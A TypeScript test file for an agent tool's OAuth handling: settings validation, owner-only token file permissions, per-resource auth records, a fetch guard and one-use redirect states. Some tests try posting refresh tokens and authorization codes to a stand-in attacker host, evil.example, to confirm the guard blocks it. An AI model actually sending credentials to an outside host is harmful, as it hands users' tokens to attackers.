// The OAuth pieces that need no server: settings validation, the token file, the store's keys, the fetch guard.
import assert from 'node:assert/strict';
import { mkdtempSync, readFileSync, statSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { describe, test } from 'node:test';
import { defaultAuthFile, FileSecretStore } from '../../src/core/auth/fileStore';
import { CredentialOriginError, guardedFetch } from '../../src/core/auth/guardedFetch';
import { PendingCallbacks } from '../../src/core/auth/redirect';
import { AuthRecordStore, MemorySecretStore } from '../../src/core/auth/store';
import { parseServers } from '../../src/core/mcp/config';

describe('oauth settings', () => {
  test('a pre-registered client ID is read; its secret is a secret', () => {
    const { servers, problems } = parseServers({ gh: { type: 'http', url: 'https://mcp.example/mcp', oauth: { clientId: 'abc', clientSecret: '${env:GH_SECRET}' } } }, { env: { GH_SECRET: 'very-secret-value' } });
    assert.deepEqual(problems, []);
    const s = servers[0]!;
    assert.ok(s.type === 'http');
    assert.deepEqual(s.oauth, { clientId: 'abc', clientSecret: 'very-secret-value' });
    assert.ok(s.secrets?.includes('very-secret-value'));
  });

  test('bad oauth entries name the server and the field', () => {
    const empty = parseServers({ gh: { type: 'http', url: 'https://x/mcp', oauth: { clientId: '' } } });
    assert.deepEqual(empty.problems.map((p) => [p.server, p.field, p.severity]), [['gh', 'oauth.clientId', 'error']]);
    const missing = parseServers({ gh: { type: 'http', url: 'https://x/mcp', oauth: { clientSecret: 'x' } } });
    assert.equal(missing.problems[0]?.field, 'oauth.clientId');
    const unknown = parseServers({ gh: { type: 'http', url: 'https://x/mcp', oauth: { clientId: 'a', scopes: 1 } } });
    assert.equal(unknown.problems[0]?.field, 'oauth');
    assert.equal(unknown.servers.length, 0);
    const stdio = parseServers({ local: { command: 'node', oauth: { clientId: 'a' } } });
    assert.deepEqual(stdio.problems.map((p) => [p.field, p.severity]), [['oauth', 'warning']]);
    assert.equal(stdio.servers.length, 1);
  });
});

describe('token storage', () => {
  test('the CLI file lives in the user config folder (XDG_CONFIG_HOME, else HOME/.config)', () => {
    assert.equal(defaultAuthFile({ XDG_CONFIG_HOME: '/x/cfg', HOME: '/home/u' }), '/x/cfg/minagent/oauth.json');
    assert.equal(defaultAuthFile({ HOME: '/home/u' }), '/home/u/.config/minagent/oauth.json');
  });

  test('the token file is readable by its owner only', async () => {
    const dir = mkdtempSync(join(tmpdir(), 'minagent-oauth-'));
    const path = join(dir, 'cfg', 'minagent', 'oauth.json');
    const store = new FileSecretStore(path);
    await store.store('k', 'v1');
    await store.store('k2', 'v2');
    assert.equal(statSync(path).mode & 0o777, 0o600);
    assert.equal(statSync(join(dir, 'cfg', 'minagent')).mode & 0o777, 0o700);
    assert.equal(await new FileSecretStore(path).get('k'), 'v1');
    await store.delete('k');
    assert.deepEqual(JSON.parse(readFileSync(path, 'utf8')), { k2: 'v2' });
  });

  test('a record is read back only for the server identity and resource it was stored for', async () => {
    const secrets = new MemorySecretStore();
    const store = new AuthRecordStore(secrets);
    await store.update('id-1', 'https://a.example/mcp', (r) => ({ ...r, tokens: { access_token: 'tok-a', token_type: 'Bearer' } }));
    assert.equal((await store.read('id-1', 'https://a.example/mcp'))?.tokens?.access_token, 'tok-a');
    assert.equal(await store.read('id-2', 'https://a.example/mcp'), undefined);
    assert.equal(await store.read('id-1', 'https://b.example/mcp'), undefined);
    // A record moved under another key (a tampered store) still does not answer for another resource.
    await secrets.store(AuthRecordStore.key('id-1', 'https://b.example/mcp'), (await secrets.get(AuthRecordStore.key('id-1', 'https://a.example/mcp')))!);
    assert.equal(await new AuthRecordStore(secrets).read('id-1', 'https://b.example/mcp'), undefined);
  });
});

describe('credential origins', () => {
  const seen: Array<{ url: string; headers: Headers }> = [];
  const base = async (url: string | URL, init?: RequestInit) => {
    seen.push({ url: String(url), headers: new Headers(init?.headers) });
    return new Response('{}');
  };
  const fetch = guardedFetch(base, { serverUrl: 'https://mcp.example/mcp', headerNames: ['X-Api-Key'], issuer: () => 'https://auth.example' });

  test('the entry headers and a bearer token reach the server only', async () => {
    await fetch('https://mcp.example/mcp', { headers: { 'x-api-key': 'k', authorization: 'Bearer t' } });
    await fetch('https://auth.example/.well-known/oauth-authorization-server', { headers: { 'x-api-key': 'k', authorization: 'Bearer t' } });
    assert.equal(seen[0]!.headers.get('x-api-key'), 'k');
    assert.equal(seen[0]!.headers.get('authorization'), 'Bearer t');
    assert.equal(seen[1]!.headers.get('x-api-key'), null);
    assert.equal(seen[1]!.headers.get('authorization'), null);
  });

  test('a code or refresh token goes only to the issuer origin; client authentication is kept there', async () => {
    const body = new URLSearchParams({ grant_type: 'refresh_token', refresh_token: 'r' });
    await fetch('https://auth.example/token', { method: 'POST', body, headers: { authorization: 'Basic abc' } });
    assert.equal(seen.at(-1)!.headers.get('authorization'), 'Basic abc');
    const before = seen.length;
    await assert.rejects(fetch('https://evil.example/token', { method: 'POST', body }), CredentialOriginError);
    await assert.rejects(fetch('https://evil.example/token', { method: 'POST', body: 'grant_type=authorization_code&code=c' }), /an authorization code to https:\/\/evil\.example/);
    assert.equal(seen.length, before, 'nothing was sent');
  });
});

describe('redirect callbacks', () => {
  test('a callback reaches only the sign-in waiting for its state', async () => {
    const pending = new PendingCallbacks();
    const waiting = pending.wait('s1');
    assert.equal(pending.deliver(new URLSearchParams({ state: 'forged', code: 'x' })), false);
    assert.equal(pending.deliver(new URLSearchParams({ code: 'x' })), false);
    assert.equal(pending.deliver(new URLSearchParams({ state: 's1', code: 'c' })), true);
    assert.equal((await waiting).get('code'), 'c');
    assert.equal(pending.deliver(new URLSearchParams({ state: 's1', code: 'again' })), false, 'a state is used once');
    const controller = new AbortController();
    const cancelled = pending.wait('s2', controller.signal);
    controller.abort();
    await assert.rejects(cancelled, /cancelled/);
  });
});
